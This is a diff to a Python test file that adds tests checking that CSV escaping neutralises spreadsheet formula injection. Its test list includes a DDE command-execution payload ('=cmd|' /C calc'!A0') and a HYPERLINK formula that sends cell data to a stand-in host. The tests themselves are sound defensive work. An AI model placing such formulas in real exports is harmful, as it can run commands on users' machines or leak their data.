@@ -1,5 +1,8 @@
 """Texts: chosen by language, kept as typed, and made safe for where they go."""
 
+import csv
+import io
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -83,3 +86,29 @@ def test_what_goes_to_a_terminal_is_one_short_line(text: str) -> None:
     assert len(line) <= 200
     assert len(line.splitlines()) <= 1
     assert not any(ord(letter) < 32 for letter in line)
+
+
+FORMULAS = [
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "＋1", "－1", "＠1",
+    '=HYPERLINK("http://example.org/?"&A1)', "=cmd|' /C calc'!A0", "-5 °C", "+43 1 58801", "−1",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_spreadsheet_finds_no_formula_in_a_cell_and_it_stays_readable(text: str) -> None:
+    ((cell,),) = csv.reader([escape_for("csv", text)], strict=True)
+    assert cell == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "text", ["-5", "+3", "-1.5", "2,5", "NO", "012", "1E5", "a;b", 'a"b', "a\nb"]
+)
+def test_numbers_and_words_stay_as_they_are_in_a_cell(text: str) -> None:
+    (row,) = csv.reader(io.StringIO(escape_for("csv", text), newline=""), strict=True)
+    assert row == [text]
+
+
+@given(st.text(st.characters(codec=None)))
+def test_any_text_is_one_cell_of_one_row(text: str) -> None:
+    rows = list(csv.reader(io.StringIO(f"{escape_for('csv', text)},2", newline=""), strict=True))
+    assert [len(row) for row in rows] == [2]
